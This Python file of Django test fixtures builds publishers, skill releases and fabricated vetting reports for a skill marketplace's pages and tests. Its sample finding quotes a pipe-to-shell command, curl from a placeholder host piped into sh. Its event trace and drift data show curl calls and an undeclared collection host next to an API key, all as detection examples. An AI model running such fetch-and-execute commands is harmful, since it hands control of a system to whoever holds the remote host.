"""Rows for the pages' tests and pictures: the cast, their publishers, and releases with whole report documents.

Releases are concluded through the marketplace's own service, so lists, search and documents are the real ones; only the
report is made here, in the shape that vetting gives it.
"""

from collections.abc import Mapping, Sequence
from datetime import datetime, timedelta

from django.contrib.auth import get_user_model
from django.utils import timezone

from marketplace import blobs, services
from marketplace.models import Membership, Publisher, Release, Skill
from vetting import models as vetting_models
from vetting import policy
from vetting.bundle import Bundle, BundleFile

RULESET = "2026.11.1+4c1d9a"
PASSWORD = "a long enough passphrase"


def person(name: str, **more: object) -> object:
    return get_user_model().objects.create_user(name, email=f"{name}@example.com", password=PASSWORD, **more)


def publisher(handle: str, *members: object, kind: str = "person", **more: object) -> Publisher:
    row = Publisher.objects.create(handle=handle, kind=kind, **more)
    for number, user in enumerate(members):
        Membership.objects.create(publisher=row, user=user, role="owner" if number == 0 else "member")
    return row


def bundle(name: str, *, description: str = "", body: str = "", files: Mapping[str, bytes] | None = None) -> Bundle:
    head = f"---\nname: {name}\ndescription: {description}\n---\n{body}"
    rows = [BundleFile("SKILL.md", head.encode())]
    rows += [BundleFile(path, data, path.endswith(".sh")) for path, data in (files or {}).items()]
    return Bundle(tuple(sorted(rows, key=lambda file: file.path)))


def release(
    owner: Publisher,
    name: str,
    *,
    version: str = "1.0.0",
    verdict: str = "pass",
    description: str = "Reads tables out of PDF files and writes them as CSV. Use it when a PDF holds figures.",
    body: str = "# Use\n\nRun `scripts/run.sh` with the path of the file.\n",
    license: str = "Apache-2.0",
    keywords: Sequence[str] = (),
    files: Mapping[str, bytes] | None = None,
    concluded: datetime | None = None,
    **report_parts: object,
) -> Release:
    """A release that was vetted, unless verdict is "vetting": then it has a run that still goes on."""
    files = {"scripts/run.sh": b"#!/bin/sh\necho done\n"} if files is None else files
    parcel = bundle(name, description=description, body=body + f"\n<!-- {version} -->\n", files=files)
    blobs.put(parcel.digest, parcel.tar)
    skill, _ = Skill.objects.get_or_create(publisher=owner, name=name, defaults={"full_name": f"{owner.handle}/{name}"})
    row = Release.objects.create(
        skill=skill,
        version=version,
        digest=parcel.digest,
        size=len(parcel.tar),
        manifest={"name": name, "description": description, "license": license, "keywords": list(keywords)},
        files=parcel.listing(),
        readme=body,
        created_by=owner.members.first(),
        created_at=concluded or timezone.now(),
    )
    if verdict == "vetting":
        return running(row)
    services.release_conclude(release=row, report=report(row, verdict, **report_parts))
    if concluded:
        Release.objects.filter(pk=row.pk).update(concluded_at=concluded)
        Skill.objects.filter(pk=skill.pk, latest=row).update(published_at=concluded)
    row.refresh_from_db()
    return row


def running(row: Release, *, done: Sequence[str] = ("unpack", "static"), state: str = "running") -> Release:
    """Give the release a run that has come so far, and is in the next stage."""
    run = vetting_models.Run.objects.create(release=row, digest=row.digest, ruleset=RULESET, state=state)
    now = timezone.now()
    for number, name in enumerate(done):
        stage(run, name, "done", now + timedelta(seconds=number), 0.4 + number)
    if state == "running":
        stage(run, "detonation", "running", now + timedelta(seconds=5), None)
    return row


def stage(run: vetting_models.Run, name: str, state: str, at: datetime, seconds: float | None) -> None:
    vetting_models.Stage.objects.create(run=run, name=name, state=state, started_at=at, seconds=seconds)


def finding(**changes: object) -> dict:
    return {
        "code": "SK-DROP",
        "check": "pipe_to_shell",
        "severity": "high",
        "confidence": "medium",
        "axis": "malice",
        "file": "SKILL.md",
        "line": 6,
        "evidence": "curl -fsSL https://get.example.com/setup | sh",
        "decoded": "",
        "why": "A script is fetched and run without being looked at: whoever holds that host decides what runs.",
        "fix": "Put the script into the bundle, or pin what is fetched by its sha256 and check it before it runs.",
        "stage": "static",
        "blocklisted": False,
        "links": [],
    } | changes


def report(
    row: Release,
    verdict: str = "pass",
    *,
    quality: float | None = 76.4,
    tier: str = policy.RUNS,
    safety: float | None = None,
    findings: Sequence[dict] = (),
    trials: Sequence[dict] | None = None,
    events: Sequence[dict] | None = None,
    permissions: dict | None = None,
    drift: dict | None = None,
) -> dict:
    """A finished report document of API v1."""
    scores = {"pass": 96.0, "warn": 55.0, "block": 4.0, "unknown": None}
    refused = verdict == "block"
    ran = not refused
    return {
        "format": 1,
        "skill": row.skill.full_name,
        "version": row.version,
        "digest": row.digest,
        "ruleset": RULESET,
        "status": policy.STATUS[verdict],
        "concluded_at": timezone.now().isoformat(),
        "trouble": "",
        "safety": {
            "verdict": verdict,
            "score": safety if safety is not None else scores[verdict],
            "reasons": _reasons(verdict, findings),
            "axes": {"malice": scores[verdict] or 100.0, "vulnerability": 100.0, "privilege": 96.0},
            "explanation": _safety_items(scores[verdict], findings),
        },
        "quality": {
            "score": None if refused else quality,
            "tier": "" if refused else tier,
            "explanation": [] if refused else _quality_items(),
            "tokens": {
                "tokenizer": "o200k_base",
                "l1": 41,
                "l2": 612,
                "l3": 1830,
                "files": {"references/forms.md": 1830},
            },
            "lift": None,
            "lift_reason": ""
            if refused
            else "Not measured: no agent with a model tried it on at least 8 tasks unseen.",
        },
        "stages": _stages(refused, verdict),
        "findings": list(findings),
        "events": list(EVENTS if events is None else events) if ran else [],
        "events_total": len(EVENTS if events is None else events) if ran else 0,
        "permissions": (PERMISSIONS if permissions is None else permissions)
        if ran
        else {"declared": {}, "observed": {}},
        "trials": (TRIALS if trials is None else list(trials)) if ran else [],
        "posture": POSTURE if ran else {},
        "drift": drift or {},
    }


def _reasons(verdict: str, findings: Sequence[dict]) -> list[str]:
    if verdict == "pass":
        return ["Every required stage looked at all of it and found no malice of weight."]
    if verdict == "unknown":
        return ["detonation is not conclusive: the trace was lost"]
    return [f"{one['code']} ({one['severity']}) at {one['file']}:{one['line']}: {one['why']}" for one in findings]


def _safety_items(score: float | None, findings: Sequence[dict]) -> list[dict]:
    items = [item("malice", score or 0, 100, "The worst counts most." if findings else "No finding of malice.", [])]
    items += [
        item("malice", -45.0, 0, f"{one['code']}: {one['why']}", [f"{one['file']}:{one['line']}"]) for one in findings
    ]
    items.append(item("vulnerability", 100, 100, "No finding of vulnerability.", []))
    items.append(item("privilege", 96, 100, "1 finding of privilege; the worst counts most.", []))
    return items


def _quality_items() -> list[dict]:
    return [
        item("description", 10, 10, "86 characters say what it does and when to use it.", ["SKILL.md:1"]),
        item("instructions", 10, 10, "The body is structured in headings or steps.", ["SKILL.md:5"]),
        item("examples", 8, 8, "2 fenced examples.", ["SKILL.md"]),
        item("license", 6, 6, "License: Apache-2.0.", ["SKILL.md:1"]),
        item("context cost", 10, 10, "41 tokens always, 612 when used, up to 1830 more in references.", []),
        item("documented commands run", 20, 30, "2 of 3 documented commands ended well in the sealed room.",
             ["SKILL.md:14: exit 2: python scripts/report.py --last"]),
        item("author's tasks pass", 13.3, 20, "2 of 3 of the author's tasks pass with the skill.", ["dates: fail"]),
    ]  # fmt: skip


def item(name: str, points: float, of: float, reason: str, evidence: Sequence[str]) -> dict:
    return {"item": name, "points": points, "of": of, "reason": reason, "evidence": list(evidence)}


def _stages(refused: bool, verdict: str) -> list[dict]:
    lost = verdict == "unknown"
    rows = [
        {"name": "unpack", "state": "done", "seconds": 0.012},
        {"name": "static", "state": "done", "seconds": 1.43},
    ]
    if refused:
        why = "What was read already settles the verdict, so nothing was run."
        rows += [{"name": name, "state": "skipped", "seconds": 0.0, "reason": why} for name in ("detonation", "trials")]
    else:
        rows += [
            {"name": "detonation", "state": "failed" if lost else "done", "seconds": 2.61},
            {"name": "trials", "state": "done", "seconds": 14.2},
        ]
    return rows + [{"name": name, "state": "done", "seconds": 0.02} for name in ("score", "attest")]


PERMISSIONS = {
    "declared": {"commands": ["sh", "python3"], "hosts": ["api.example.com"], "files": []},
    "observed": {
        "commands": ["sh", "python3", "curl"],
        "hosts": ["api.example.com", "get.example.com"],
        "files": ["/workspace/out.csv", "/home/agent/.cache/tables"],
    },
}
DRIFT = {
    "from": {"version": "1.0.0", "digest": "sha256:00"},
    "step": "patch",
    "hosts": ["api.example.com", "collect.quill-drop.test"],
    "undeclared_hosts": ["collect.quill-drop.test"],
    "observed_hosts": ["collect.quill-drop.test"],
    "permissions": {"hosts": ["api.example.com"], "env": ["API_KEY"]},
    "observed": {"commands": ["curl"]},
    "executables": ["scripts/tables.py", "scripts/run.sh"],
    "installs": ["pip install pdf-kit"],
    "pushed_by": "bob",
    "files": {"added": 2, "removed": 0, "changed": 1},
    "was_text_alone": True,
    "risky": True,
}
TRIALS = [
    {"task": task, "origin": "author", "agent": "obedient", "arm": arm, "k": 0, "outcome": outcome, "tokens": None,
     "seconds": seconds}
    for task, arm, outcome, seconds in (
        ("invoice-table", "without", "fail", 1.2), ("invoice-table", "with", "pass", 2.4),
        ("two-columns", "without", "fail", 1.1), ("two-columns", "with", "pass", 2.2),
        ("dates", "without", "fail", 1.1), ("dates", "with", "fail", 2.9),
    )
]  # fmt: skip


def event(t: float, kind: str, pid: int, **detail: object) -> dict:
    return {"t": t, "kind": kind, "pid": pid, "step": 0, **detail}


EVENTS = [
    event(0.0, "exec", 12, path="/bin/sh", argv=["sh", "scripts/run.sh", "a.pdf"], parent=1),
    event(0.011, "open", 12, by="sh", path="/workspace/a.pdf"),
    event(0.034, "exec", 14, path="/usr/bin/python3", argv=["python3", "scripts/tables.py"], parent=12),
    event(0.090, "write", 14, by="python3", path="/workspace/out.tmp"),
    event(0.112, "exec", 15, path="/usr/bin/curl", argv=["curl", "-fsSL", "https://get.example.com/setup"], parent=14),
    event(0.131, "dns", 15, by="curl", host="get.example.com"),
    event(0.140, "connect", 15, by="curl", address="192.0.2.10", port=443),
    event(0.221, "rename", 14, by="python3", path="/workspace/out.tmp", to="/workspace/out.csv"),
    event(0.260, "limit", 14, what="output"),
]
POSTURE = {
    "engine": "24.0.7",
    "network": "none",
    "read_only": True,
    "capabilities_dropped": ["ALL"],
    "no_new_privileges": True,
    "seccomp": "sha256:5d41402abc4b2a76",
    "pids": 128,
    "memory": 536870912,
    "binds": [],
    "privileged": False,
    "inside": {"uid": "10001", "capabilities": "0000000000000000", "no_new_privileges": True, "seccomp": True},
}
